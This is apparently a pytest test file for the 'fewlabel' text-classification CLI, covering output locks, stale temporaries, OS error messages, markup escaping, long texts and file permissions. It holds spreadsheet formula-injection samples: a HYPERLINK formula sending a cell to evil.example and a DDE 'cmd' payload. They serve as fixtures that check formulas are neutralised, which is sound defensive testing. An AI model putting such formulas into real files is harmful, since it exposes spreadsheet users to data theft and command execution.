"""I/O faults: locked outputs, stale temporaries, OS errors as one line, literal messages, formula-safe
spreadsheets, output checks before any work, the per-text limit, bad temperatures, emoji-only texts,
and file permissions that follow the umask.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from conftest import NEW_NEGATIVE, NEW_POSITIVE, assert_one_line_error
from fewlabel import atomic
from fewlabel.cli.main import app
from fewlabel.data.labelled import MAX_TEXT_CHARS
from fewlabel.errors import OutputInUseError, os_error_message
from fewlabel.inference.predicting import predict_file

ENV = {"COLUMNS": "200", "FEWLABEL_PROGRESS": "0"}
NEW = NEW_POSITIVE + NEW_NEGATIVE
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def invoke(*args: object):
    return CliRunner().invoke(app, [str(a) for a in args], env=ENV)


@pytest.fixture
def texts_csv(tmp_path, write_csv) -> Path:
    return write_csv(tmp_path / "in.csv", ["id", "text"], [[i, t] for i, t in enumerate(NEW)])


# 4. Two runs into one output: locked, and each run's partial file is its own.


def test_second_run_into_a_locked_output_refuses_naming_the_holder(tmp_path, tfidf_model_dir, texts_csv):
    out = tmp_path / "out.csv"
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time\n"
            "from fewlabel.atomic import output_lock\n"
            "with output_lock(sys.argv[1]):\n"
            "    print('locked', flush=True)\n"
            "    time.sleep(60)\n",
            str(out),
        ],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
        result = invoke("predict", tfidf_model_dir, texts_csv, "-o", out)
        assert_one_line_error(result, f"process {holder.pid} on", str(atomic.lock_path(out)))
        assert not out.exists()
    finally:
        holder.kill()
        holder.wait()
    # The kernel released the dead holder's lock: its lock file is taken over.
    assert atomic.lock_path(out).exists()
    assert invoke("predict", tfidf_model_dir, texts_csv, "-o", out).exit_code == 0
    assert not atomic.lock_path(out).exists()


def test_concurrent_runs_one_refuses_the_other_completes(tmp_path, tfidf_model_dir, texts_csv, monkeypatch):
    import fewlabel.inference.predicting as predicting

    reference = tmp_path / "reference.csv"
    predict_file(tfidf_model_dir, str(texts_csv), str(reference))
    out = tmp_path / "out.csv"
    started, second_done = threading.Event(), threading.Event()
    real = predicting.predict_table

    def slow(*args, **kwargs):  # the first run waits, mid-prediction, until the second has tried
        started.set()
        second_done.wait(10)
        return real(*args, **kwargs)

    monkeypatch.setattr(predicting, "predict_table", slow)
    first = threading.Thread(target=predict_file, args=(tfidf_model_dir, str(texts_csv), str(out)))
    first.start()
    assert started.wait(10)
    try:
        with pytest.raises(OutputInUseError, match="another fewlabel run"):
            predict_file(tfidf_model_dir, str(texts_csv), str(out))
    finally:
        second_done.set()
        first.join()
    assert out.read_bytes() == reference.read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv", "reference.csv"]


# 8 (part). Temporaries a killed run left are removed by the next run.


def test_stale_temporaries_are_removed_by_the_next_run(tmp_path, tfidf_model_dir, texts_csv):
    out = tmp_path / "out.csv"
    stale = [
        ".out.csv.0123abcd.partial",  # a killed run's partial file
        ".out.csv.partial",  # the name earlier versions used
        ".out.csv.k2x_9qzt.tmp",  # atomic_file's temporary
        "..out.csv.progress.json.ab_1cd2e.tmp",
    ]
    for name in stale:
        (tmp_path / name).write_text("left behind")
    (tmp_path / ".other.csv.0123abcd.partial").write_text("another output's: kept")
    assert invoke("predict", tfidf_model_dir, texts_csv, "-o", out).exit_code == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == [".other.csv.0123abcd.partial", "in.csv", "out.csv"]


# 8. OS errors reach the user as one line: the path, what happened, what to do.


def test_full_disk_while_predicting_is_one_line(tmp_path, tfidf_model_dir, texts_csv, monkeypatch):
    import fewlabel.inference.predicting as predicting

    def full(out, fmt):
        def write(*args):
            raise OSError(errno.ENOSPC, "No space left on device")

        return write

    monkeypatch.setattr(predicting, "_text_writer", full)
    out = tmp_path / "out.csv"
    result = invoke("predict", tfidf_model_dir, texts_csv, "-o", out)
    assert_one_line_error(result, f"{out}: no space left on the disk after 0 rows; free some space and run")


def test_read_only_directory_is_one_line_before_predicting(tmp_path, tfidf_model_dir, texts_csv, monkeypatch):
    import fewlabel.inference.predicting as predicting

    real_open = os.open

    def read_only(path, *args, **kwargs):  # as a read-only disk answers (chmod does not stop root)
        if str(path).endswith(".lock"):
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(atomic.os, "open", read_only)
    monkeypatch.setattr(predicting, "load_model", lambda *a, **k: pytest.fail("loaded before the check"))
    out = tmp_path / "out.csv"
    result = invoke("predict", tfidf_model_dir, texts_csv, "-o", out)
    assert_one_line_error(result, f"{out}: the file system is read-only; choose a path on a writable disk")


@pytest.mark.parametrize(
    ("err", "expected"),
    [
        (
            PermissionError(errno.EACCES, "Permission denied", "/data/out.csv"),
            "/data/out.csv: permission denied",
        ),
        (
            IsADirectoryError(errno.EISDIR, "Is a directory", "/data/x"),
            "/data/x: is a directory; give a file",
        ),
        (
            OSError(errno.ENOTEMPTY, "Directory not empty", "/m.tmp", None, "/m"),
            "/m.tmp -> /m: was changed by",
        ),
        (OSError(errno.ENOSPC, "No space left on device"), "no space left on the disk"),
        (
            OSError(errno.ELOOP, "Too many levels of symbolic links", "/a"),
            "/a: too many levels of symbolic links",
        ),
    ],
)
def test_os_error_message_names_path_and_fix(err, expected):
    message = os_error_message(err)
    assert message.startswith(expected) and "\n" not in message


# 9. Messages and help are printed literally, never read as Rich markup.


def test_messages_and_help_are_printed_literally(tmp_path, tfidf_model_dir, monkeypatch):
    import fewlabel.inference.predicting as predicting

    odd = tmp_path / "x[" / "].csv"  # a path holding Rich's closing tag [/]
    result = invoke("predict", tfidf_model_dir, odd, "-o", tmp_path / "out.csv")
    assert_one_line_error(result, f"{odd}: file not found")

    def needs_extra(*args, **kwargs):
        from fewlabel.errors import DataError

        raise DataError("x.parquet: reading Parquet needs pyarrow; `pip install 'fewlabel[parquet]'` [bold]")

    monkeypatch.setattr(predicting, "predict_file", needs_extra)
    result = invoke("predict", tfidf_model_dir, "x.parquet")
    assert_one_line_error(result, "pip install 'fewlabel[parquet]'` [bold]")

    help_text = invoke("predict", "--help").stdout
    assert 'pip install "fewlabel[ray]"' in help_text


# 10. Files people open in spreadsheets run no formulas; predict keeps the user's cells as they were.


def test_label_issues_csv_neutralises_formulas():
    from fewlabel.evaluation.diagnostics import label_issues_csv

    issue = {
        "row": 2,
        "given_label": "@label",
        "suggested_label": "ok",
        "given_label_probability": 0.1,
        "suggested_label_probability": 0.9,
        "text": HYPERLINK,
    }
    rows = list(csv.DictReader(io.StringIO(label_issues_csv([issue, {**issue, "text": "-3"}]))))
    assert rows[0]["text"] == "'" + HYPERLINK and rows[0]["given_label"] == "'@label"
    assert rows[1]["text"] == "-3"  # a plain number is not a formula
    assert rows[0]["given_label_probability"] == "0.1000"


def test_suggest_output_neutralises_formulas_predict_keeps_cells(tmp_path, tfidf_model_dir, write_csv):
    cells = [HYPERLINK, "+cmd|' /C calc'!A0", "\tTab", "@SUM(1,1)", "fine text"]
    src = write_csv(
        tmp_path / "pool.csv", ["text", "note"], [[t, c] for t, c in zip([*NEW, "x"], cells, strict=True)]
    )
    result = invoke("suggest", tfidf_model_dir, src, "-o", tmp_path / "s.csv", "-n", 5)
    assert result.exit_code == 0, result.output
    with (tmp_path / "s.csv").open(encoding="utf-8", newline="") as f:
        notes = sorted(r["note"] for r in csv.DictReader(f))
    assert notes == sorted(c if c == "fine text" else "'" + c for c in cells)

    assert invoke("predict", tfidf_model_dir, src, "-o", tmp_path / "p.csv").exit_code == 0
    with (tmp_path / "p.csv").open(encoding="utf-8", newline="") as f:
        assert [r["note"] for r in csv.DictReader(f)] == cells  # the user's own cells, unchanged


# 11. Output paths are checked before any work.


@pytest.mark.parametrize("kind", ["file", "other directory"])
def test_train_refuses_bad_output_before_reading_data(tmp_path, reviews_csv, monkeypatch, kind):
    import fewlabel.cli.commands as commands

    out = tmp_path / "target"
    if kind == "file":
        out.write_text("mine")
    else:
        out.mkdir()
        (out / "notes.txt").write_text("mine")
    monkeypatch.setattr(commands, "load_labelled", lambda *a, **k: pytest.fail("read the data first"))
    result = invoke("train", reviews_csv, "-o", out, "-s", "tfidf")
    assert_one_line_error(result, str(out), "is a file" if kind == "file" else "is not a fewlabel model")


def test_predict_into_a_directory_refuses_before_predicting(
    tmp_path, tfidf_model_dir, texts_csv, monkeypatch
):
    import fewlabel.inference.predicting as predicting

    out = tmp_path / "outdir"
    out.mkdir()
    monkeypatch.setattr(predicting, "load_model", lambda *a, **k: pytest.fail("loaded the model first"))
    result = invoke("predict", tfidf_model_dir, texts_csv, "-o", out)
    assert_one_line_error(result, f"{out}: is a directory; give the path of a file")
    assert list(out.iterdir()) == [] and not list(tmp_path.glob(".outdir*"))


@pytest.mark.parametrize("command", ["predict", "suggest"])
def test_output_ending_in_a_separator_names_a_folder_and_is_refused(
    tmp_path, tfidf_model_dir, texts_csv, monkeypatch, command
):
    """`-o newdir/` for a folder that does not exist: refused, not written as a file named `newdir`."""
    import fewlabel.inference.loading as loading
    import fewlabel.inference.predicting as predicting

    for module in (predicting, loading):  # predict imports load_model by name, suggest when it runs
        monkeypatch.setattr(module, "load_model", lambda *a, **k: pytest.fail("loaded the model first"))
    given = f"{tmp_path / 'newdir'}{os.sep}"
    result = invoke(command, tfidf_model_dir, texts_csv, "-o", given)
    assert_one_line_error(result, f"{given}: ends in a separator, so it names a folder", "newdir/out.csv")
    assert list(tmp_path.iterdir()) == [texts_csv]


# 5. One huge text is predicted on its first MAX_TEXT_CHARS characters, its row written whole.


def test_long_texts_are_cut_for_the_model_and_counted(tmp_path, tfidf_model_dir, write_csv, monkeypatch):
    from fewlabel.model_dir.store import TrainedModel

    huge = "great " * (MAX_TEXT_CHARS // 3)  # 2x the limit
    src = write_csv(tmp_path / "in.csv", ["text"], [[huge], [NEW[0]], [huge + "x"]])
    seen: list[int] = []
    real = TrainedModel.predict

    def spy(self, texts):
        seen.extend(len(t) for t in texts)
        return real(self, texts)

    monkeypatch.setattr(TrainedModel, "predict", spy)
    out = tmp_path / "out.csv"
    result = invoke("predict", tfidf_model_dir, src, "-o", out)
    assert result.exit_code == 0, result.output
    assert "Warning: 2 text(s) longer than 100,000 characters were predicted on their first 100,000" in (
        result.stderr
    )
    assert max(seen) == MAX_TEXT_CHARS
    csv.field_size_limit(sys.maxsize)
    with out.open(encoding="utf-8", newline="") as f:
        assert [r["text"] for r in csv.DictReader(f)] == [huge, NEW[0], huge + "x"]


# 8. A calibration temperature that is not positive is refused, not turned into NaN confidences.


@pytest.mark.parametrize("temperature", [0, -1.5, "warm"])
def test_bad_temperature_is_refused(model_copy, texts_csv, temperature):
    manifest_path = model_copy / "fewlabel.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["calibration"]["temperature"] = temperature
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    for args in (("predict", model_copy, texts_csv), ("evaluate", model_copy, texts_csv)):
        result = invoke(*args)
        # The manifest reader refuses it first (model format 2), naming the field.
        assert_one_line_error(result, "field 'calibration.temperature' must be a positive number")


# 8. Emoji-only texts: TF-IDF reads their characters instead of failing with "empty vocabulary".


def test_tfidf_trains_on_emoji_only_texts(tmp_path):
    from fewlabel.strategies.tfidf import TfidfLogReg

    happy, sad = ["😀", "😍👍", "🥰", "😊🎉", "👍👍"], ["😡", "👎", "😢😢", "🤬", "💩👎"]
    strategy = TfidfLogReg().fit(happy + sad, np.array([1] * 5 + [0] * 5), 2)
    assert "char" in strategy.describe() and "word" not in strategy.describe()
    strategy.save(tmp_path / "s")
    loaded = TfidfLogReg.load(tmp_path / "s")
    proba = loaded.predict_proba(["😍😀", "🤬👎", "plain words"])
    assert proba.shape == (3, 2) and proba[0, 1] > 0.5 > proba[1, 1]


# 13. Files fewlabel creates follow the umask, as open() would create them.


@pytest.mark.parametrize("umask", [0o022, 0o027])
def test_created_files_follow_the_umask(tmp_path, tfidf_model_dir, texts_csv, umask):
    previous = os.umask(umask)
    try:
        atomic.write_text(tmp_path / "note.txt", "hello")
        predict_file(tfidf_model_dir, str(texts_csv), str(tmp_path / "out.csv"))
        predict_file(tfidf_model_dir, str(texts_csv), str(tmp_path / "out.xlsx"))
        assert atomic.created_mode(directory=True) == 0o777 & ~umask
        with atomic.atomic_directory(tmp_path / "model") as tmp:
            (tmp / "fewlabel.json").write_text("{}")
    finally:
        os.umask(previous)
    for name in ("note.txt", "out.csv", "out.xlsx"):
        assert (tmp_path / name).stat().st_mode & 0o777 == 0o666 & ~umask, name
    # A saved model directory too: a service account or Ray workers on shared storage can read it.
    assert (tmp_path / "model").stat().st_mode & 0o777 == 0o777 & ~umask
